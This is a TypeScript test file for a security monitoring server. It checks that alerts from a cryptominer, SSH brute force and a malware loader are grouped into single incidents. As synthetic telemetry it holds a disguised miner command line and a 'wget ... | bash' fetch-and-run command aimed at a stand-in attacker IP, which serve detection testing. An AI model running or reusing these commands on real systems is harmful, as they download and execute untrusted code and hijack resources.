import { test, describe, after } from "node:test";
import assert from "node:assert/strict";
import { join } from "node:path";
import { writeFileSync } from "node:fs";
import { FakeClock, type Alert } from "../core/index.ts";
import { markEventHandled } from "../alerting/index.ts";
import { tempDir, startServer, enrolToken } from "../../test/helpers.ts";

/** Security events formed by the real ingest (EVT-1, EVT-8, MIN-4): records in through the agent channel, as host-telemetry.test.ts sends them. */
const tmp = tempDir();
after(() => tmp.cleanup());
let n = 0;
const EVIL = "e".repeat(64);
const ATTACKER = "5.9.20.20";

type Asset = { agentId: string; secret: string };

async function setup() {
  const clock = new FakeClock("2026-06-01T08:00:00Z");
  const feed = join(tmp.dir, `feed-${n}.csv`);
  writeFileSync(feed, `type,value,category,note\nsha256,${EVIL},malicious,test malware\n`);
  const { server, adminToken } = await startServer({ dataDir: join(tmp.dir, `s${n++}`), clock, listen: false, overrides: { intelPaths: [feed] } });
  const enrol = async (hostname: string): Promise<Asset> =>
    (await server.agentChannel.inject({ method: "POST", url: "/agent/v1/enrol", payload: { token: await enrolToken(server), hostname, version: "1", os: "linux" } })).json() as Asset;
  let seq = 0;
  const send = async (asset: Asset, records: object[]) => {
    const r = await server.agentChannel.inject({ method: "POST", url: "/agent/v1/telemetry", headers: { authorization: `Bearer ${asset.agentId}.${asset.secret}` }, payload: { records: records.map((x) => ({ id: `rec-${String(seq++).padStart(8, "0")}`, ...x })) } });
    assert.equal(r.statusCode, 200, r.body);
    assert.deepEqual(r.json().rejected, []);
  };
  const api = async (url: string, method = "GET", payload?: object) => (await server.api.inject({ method: method as "GET", url, payload, headers: { authorization: `Bearer ${adminToken}` } })).json();
  const alertsOf = async (type: string) => (await server.store.alerts.list("default", { type, limit: 100, offset: 0 })).items;
  const eventIdOf = async (a: Alert) => server.store.events.eventOfAlert(a.id);
  const failures = (ip: string, times = 6) => Array.from({ length: times }, () => ({ kind: "logon", ts: clock.now(), service: "ssh", event: { outcome: "failure", reason: "password" }, source: { ip }, user: { name: "root" } }));
  return { server, clock, enrol, send, api, alertsOf, eventIdOf, failures };
}

describe("security events through ingest", () => {
  test("MIN-4 a miner, its pool connection, its sustained CPU and the pool's DNS query on one asset land in exactly one event", async () => {
    const { server, clock, enrol, send, alertsOf, eventIdOf } = await setup();
    try {
      const web = await enrol("web-1");
      const t0 = clock.now();
      const exe = "/var/tmp/.cache/kthreadd2";
      const cmd = `${exe} -o stratum+tcp://5.9.10.11:3333 -u 44AFFq5kSiGBoZ4N --donate-level 1`;
      const start = t0 - 60_000;
      await send(web, [{ kind: "dns", ts: t0, resolver: "dnsmasq", dns: { question: { name: "xmr.pool.supportxmr.com", type: "A" } }, source: { ip: "10.0.0.5" } }]);
      await send(web, [{ kind: "process", ts: t0 + 1000, event: { action: "start" }, process: { pid: 5000, ppid: 1, name: "kthreadd2", executable: exe, command_line: cmd, start, ancestors: [{ pid: 1, name: "systemd" }] } }]);
      await send(web, [{
        kind: "connection", ts: t0 + 2000, event: { action: "opened" }, network: { transport: "tcp", type: "ipv4", direction: "outbound" }, source: { ip: "10.0.0.5", port: 40000 },
        destination: { ip: "5.9.10.11", port: 3333 }, process: { pid: 5000, name: "kthreadd2", executable: exe, command_line: cmd }, firstSeen: t0 + 2000, lastSeen: t0 + 2000,
      }]);
      // MIN-1: five minutes of busy samples, every 5 s, while the pool connection stays open
      await send(web, Array.from({ length: 64 }, (_, i) => ({
        kind: "process", ts: t0 + 3000 + i * 5000, event: { action: "sample" },
        process: { pid: 5000, name: "kthreadd2", executable: exe, start, cpu: { pct: 195 }, network: { external: true, ip: "5.9.10.11", port: 3333 } },
      })));
      const types = ["malicious_domain", "mining_program", "mining_pool", "mining_behaviour"];
      const alerts: Alert[] = [];
      for (const t of types) {
        const [a] = await alertsOf(t);
        assert.ok(a, `a ${t} alert`);
        alerts.push(a);
      }
      const ids = new Set(await Promise.all(alerts.map(eventIdOf)));
      assert.equal(ids.size, 1, "one event");
      const [id] = [...ids];
      assert.ok(id);
      const events = await server.store.events.list("default", { limit: 10, offset: 0 });
      assert.equal(events.total, 1, JSON.stringify(events.items.map((e) => [e.title, e.alertTypes])));
      const e = events.items[0]!;
      assert.deepEqual([...e.alertTypes].sort(), [...types].sort());
      assert.equal(e.alertCount, 4);
      assert.ok(e.joinedBy.includes("mining-incident"), JSON.stringify(e.joinedBy));
      assert.equal(e.stage, "TA0040", "impact (resource hijacking)");
      assert.ok(e.techniques.includes("T1496") && e.techniques.includes("T1071.004"));
      const entities = await server.store.events.entities(e.id);
      assert.equal(entities.find((x) => x.key === `process:${web.agentId}:${exe}`)?.malicious, true);
      assert.equal(entities.find((x) => x.key === "domain:xmr.pool.supportxmr.com")?.malicious, true);
      const edges = (await server.store.events.edges(e.id)).map((x) => `${x.from} ${x.relation} ${x.to}`);
      assert.ok(edges.includes(`process:${web.agentId}:${exe} connected_to ip:5.9.10.11`), edges.join("\n"));
    } finally {
      await server.close();
    }
  });

  test("EVT-1 EVT-8 one address brute-forcing two assets is one event; a download in its SSH session and the malware it started (killed on sight, Blocked) join it; Handled leaves the Blocked alert alone; a later alert opens a new event", async () => {
    const { server, clock, enrol, send, api, alertsOf, eventIdOf, failures } = await setup();
    try {
      const web = await enrol("web-1"), db = await enrol("db-1"), app = await enrol("app-1");
      await send(web, failures(ATTACKER));
      clock.advance(30 * 60_000);
      await send(db, failures(ATTACKER));
      const brute = await alertsOf("ssh_brute_force");
      assert.equal(brute.length, 2);
      const id = await eventIdOf(brute[0]!);
      assert.equal(await eventIdOf(brute[1]!), id);
      let e = (await server.store.events.get("default", id!))!;
      assert.equal(e.title, `SSH brute force from ${ATTACKER} → 2 assets`);

      // in the attacker's SSH session on web-1 a loader fetches and runs a script (its session's peer joins it to the attack) …
      await send(web, [{
        kind: "process", ts: clock.now(), event: { action: "start" }, session: { sshdPid: 700, user: "root", sourceIp: ATTACKER },
        process: { pid: 4000, ppid: 700, name: "loader", executable: "/tmp/.x/loader", command_line: "/tmp/.x/loader -c wget -q -O- http://5.9.20.21/i | bash", start: clock.now() - 2000 },
      }]);
      const [download] = await alertsOf("download_and_execute");
      assert.equal(await eventIdOf(download!), id, "joined by the session's peer address");
      // … and PRC-4 kills the malware it started on sight (Blocked), which joins by its process tree
      await api("/api/v1/settings/proactive-defence", "PUT", { enabled: false, assets: { [web.agentId]: true } });
      await send(web, [{
        kind: "process", ts: clock.now(), event: { action: "start" },
        process: { pid: 4100, ppid: 4000, name: "dbused", executable: "/tmp/.x/dbused", command_line: "/tmp/.x/dbused", start: clock.now() - 1000, hash: { sha256: EVIL }, parent: { pid: 4000, name: "loader", executable: "/tmp/.x/loader" } },
      }]);
      const [blocked] = await alertsOf("malicious_process");
      assert.equal(blocked?.status, "blocked");
      assert.equal(await eventIdOf(blocked!), id, "a Blocked alert is part of the event");

      e = (await server.store.events.get("default", id!))!;
      e = await server.store.transaction((tx) => markEventHandled(tx, e, "blocked the source on every asset", "user:admin", "", clock.now()));
      for (const a of [...brute, download!]) assert.equal((await server.store.alerts.get("default", a.id))?.status, "handled");
      assert.equal((await server.store.alerts.get("default", blocked!.id))?.status, "blocked", "precision-defence alerts never change");

      clock.advance(60 * 60_000);
      await send(app, failures(ATTACKER));
      const later = (await alertsOf("ssh_brute_force")).find((a) => a.assetId === app.agentId)!;
      const next = await eventIdOf(later);
      assert.ok(next && next !== id, "EVT-8 a Handled event takes no new alert");
      assert.equal((await server.store.events.list("default", { limit: 10, offset: 0 })).total, 2);
    } finally {
      await server.close();
    }
  });
});
